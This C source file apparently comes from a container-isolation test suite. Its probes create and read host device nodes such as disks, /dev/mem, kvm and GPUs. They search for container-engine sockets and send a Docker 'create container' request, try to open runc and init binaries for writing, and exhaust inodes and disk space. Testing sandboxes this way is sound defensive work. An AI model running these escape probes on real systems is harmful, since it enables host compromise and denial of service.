/* Files that are not the job's: devices, the host's disk, the engine's socket, the runtime's own program. */
#include "attack.h"

#include <dirent.h>
#include <sys/socket.h>
#include <sys/sysmacros.h>
#include <sys/un.h>

static long peek(const char *path, int flags) {
    unsigned char bytes[64];
    int file = open(path, flags | O_NONBLOCK | O_NOCTTY);
    if (file < 0) return -1;
    ssize_t some = read(file, bytes, sizeof bytes);
    int code = errno;
    close(file);
    if (some < 0) {
        errno = code;
        return -1;
    }
    char text[129] = "";
    for (ssize_t i = 0; i < some; i++) snprintf(text + 2 * i, 3, "%02x", bytes[i]);
    say("%s holds %s", path, text);
    return some;
}

/* devices [PATH]...: makes nodes for the host's devices and reads them; then reads those that the image brought. */
static int devices(int argc, char **argv) {
    static const struct {
        const char *name;
        mode_t kind;
        unsigned major, minor;
    } nodes[] = {{"vda", S_IFBLK, 254, 0}, {"vda2", S_IFBLK, 253, 0}, {"sda", S_IFBLK, 8, 0}, {"nvme", S_IFBLK, 259, 0},
                 {"loop0", S_IFBLK, 7, 0}, {"mem", S_IFCHR, 1, 1},    {"port", S_IFCHR, 1, 4}, {"kmsg", S_IFCHR, 1, 11},
                 {"kvm", S_IFCHR, 10, 232}, {"fuse", S_IFCHR, 10, 229}, {"tun", S_IFCHR, 10, 200}, {"rtc", S_IFCHR, 10, 135},
                 {"tty0", S_IFCHR, 4, 0},  {"console", S_IFCHR, 5, 1}, {"nvidia0", S_IFCHR, 195, 0},
                 {"nvidiactl", S_IFCHR, 195, 255}, {"uinput", S_IFCHR, 10, 223}, {"vhost-net", S_IFCHR, 10, 238}};
    char name[64];
    for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
        char path[64];
        snprintf(path, sizeof path, "/tmp/%s", nodes[i].name);
        snprintf(name, sizeof name, "mknod %s", nodes[i].name);
        if (tried(name, mknod(path, nodes[i].kind | 0666, makedev(nodes[i].major, nodes[i].minor))) >= 0) {
            snprintf(name, sizeof name, "read made %s", nodes[i].name);
            tried(name, peek(path, O_RDONLY));
        }
        snprintf(path, sizeof path, "/dev/%s", nodes[i].name);
        snprintf(name, sizeof name, "read %s", nodes[i].name);
        tried(name, peek(path, O_RDONLY));
    }
    for (int i = 1; i < argc; i++) {
        snprintf(name, sizeof name, "read image's %s", argv[i]);
        tried(name, peek(argv[i], O_RDONLY));
        snprintf(name, sizeof name, "write image's %s", argv[i]);
        tried(name, open(argv[i], O_WRONLY | O_NONBLOCK));
    }
    say("waiting");
    nap(1.5);
    return 0;
}

/* read FILE...: the beginning of each, by paths that climb. */
static int read_files(int argc, char **argv) {
    for (int i = 1; i < argc; i++) tried(argv[i], peek(argv[i], O_RDONLY));
    return 0;
}

/* write TEXT FILE...: into each that lets itself be opened or made. */
static int write_files(int argc, char **argv) {
    for (int i = 2; i < argc; i++) {
        int file = open(argv[i], O_WRONLY | O_CREAT | O_APPEND, 0666);
        tried(argv[i], file < 0 ? -1 : write(file, argv[1], strlen(argv[1])));
        if (file >= 0) close(file);
    }
    return 0;
}

static void call_socket(const char *path, int abstract) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(path);
    if (length >= sizeof address.sun_path - 1) return;
    memcpy(address.sun_path + (abstract ? 1 : 0), path, length);
    int end = socket(AF_UNIX, SOCK_STREAM, 0);
    socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length + 1);
    char name[160];
    snprintf(name, sizeof name, "connect %s%s", abstract ? "@" : "", path);
    if (tried(name, connect(end, (struct sockaddr *)&address, size)) >= 0) {
        static const char request[] = "POST /containers/create?name=hostile-made HTTP/1.1\r\nHost: x\r\n"
                                      "Content-Type: application/json\r\nContent-Length: 19\r\n\r\n{\"Image\":\"hostile\"}";
        if (write(end, request, sizeof request - 1) < 0) tried("request", -1);
    }
    close(end);
}

static void search(const char *folder, int depth, int *found) {
    DIR *list = opendir(folder);
    if (!list) return;
    for (struct dirent *entry; (entry = readdir(list)) != NULL;) {
        char path[512];
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
        if (snprintf(path, sizeof path, "%s/%s", folder, entry->d_name) >= (int)sizeof path) continue;
        if (strncmp(path, "//proc", 6) == 0 || strncmp(path, "//sys", 5) == 0) continue;
        struct stat kind;
        if (lstat(path, &kind) != 0) continue;
        if (S_ISSOCK(kind.st_mode)) {
            (*found)++;
            call_socket(path + 1, 0);
        } else if (S_ISDIR(kind.st_mode) && depth < 8) {
            search(path, depth + 1, found);
        }
    }
    closedir(list);
}

/* engine-socket: on every path, under every name an engine is known by. */
static int engine_socket(int argc, char **argv) {
    int found = 0;
    search("/", 0, &found);
    say("sockets found %d", found);
    static const char *const paths[] = {"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                                        "/run/docker/containerd/containerd.sock", "/run/podman/podman.sock",
                                        "/run/gpunode/control.sock", "/run/dbus/system_bus_socket",
                                        "/run/systemd/private", "/run/nvidia-persistenced/socket"};
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) call_socket(paths[i], 0);
    for (int i = 1; i < argc; i++) call_socket(argv[i], argv[i][0] != '/');
    FILE *known = fopen("/proc/net/unix", "r");
    char line[512];
    while (known && fgets(line, sizeof line, known)) {
        char *name = strchr(line, '@');
        if (!name) continue;
        name[strcspn(name, "\n")] = 0;
        call_socket(name + 1, 1);
    }
    return 0;
}

/* runtime: writes into the programs that the host runs on the container's behalf. */
static int runtime(int argc, char **argv) {
    (void)argc, (void)argv;
    static const char *const programs[] = {"/proc/1/exe", "/sbin/docker-init", "/proc/self/exe", "/dev/init"};
    char name[96];
    for (size_t i = 0; i < sizeof programs / sizeof *programs; i++) {
        snprintf(name, sizeof name, "write %s", programs[i]);
        tried(name, open(programs[i], O_WRONLY));
        snprintf(name, sizeof name, "append %s", programs[i]);
        tried(name, open(programs[i], O_WRONLY | O_APPEND));
    }
    /* Whoever enters the container would be met as /proc/PID/exe of a process that is not the container's. */
    for (int turn = 0; turn < 40; turn++) {
        DIR *list = opendir("/proc");
        for (struct dirent *entry; list && (entry = readdir(list)) != NULL;) {
            char path[300], target[256];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length <= 0) continue;
            target[length] = 0;
            if (!strstr(target, "runc") && !strstr(target, "containerd")) continue;
            say("met %s", target);
            tried("overwrite runtime", open(path, O_WRONLY | O_APPEND));
        }
        if (list) closedir(list);
        nap(0.025);
    }
    return 0;
}

/* many-files FOLDER COUNT: empty files, each an inode. */
static int many_files(int argc, char **argv) {
    if (argc < 3) return 64;
    long most = number(argc, argv, 2, 10000), made = 0;
    char path[256];
    mkdir(argv[1], 0755);
    for (; made < most; made++) {
        if (made % 1000 == 0) {
            snprintf(path, sizeof path, "%s/%ld", argv[1], made / 1000);
            mkdir(path, 0755);
        }
        snprintf(path, sizeof path, "%s/%ld/%ld", argv[1], made / 1000, made);
        int file = open(path, O_WRONLY | O_CREAT, 0644);
        if (file < 0) break;
        close(file);
    }
    say("made %ld: %s", made, made < most ? strerrorname_np(errno) : "all");
    nap((double)number(argc, argv, 3, 0));
    return made < most;
}

/* sparse PATH GIB MIB: a file that looks huge, and then is MIB large for real. */
static int sparse(int argc, char **argv) {
    if (argc < 4) return 64;
    int file = open(argv[1], O_RDWR | O_CREAT, 0644);
    tried("truncate", ftruncate(file, number(argc, argv, 2, 1024) << 30));
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    long written = 0, most = number(argc, argv, 3, 256);
    for (; written < most; written++)
        if (pwrite(file, block, sizeof block, written << 24) != sizeof block) break;
    say("wrote %ld MiB: %s", written, written < most ? strerrorname_np(errno) : "all");
    tried("fallocate", fallocate(file, 0, 0, most << 20));
    nap((double)number(argc, argv, 4, 1));
    return 0;
}

const struct entry files[] = {
    {"devices", devices}, {"read", read_files},       {"write", write_files}, {"engine-socket", engine_socket},
    {"runtime", runtime}, {"many-files", many_files}, {"sparse", sparse},     {NULL, NULL},
};
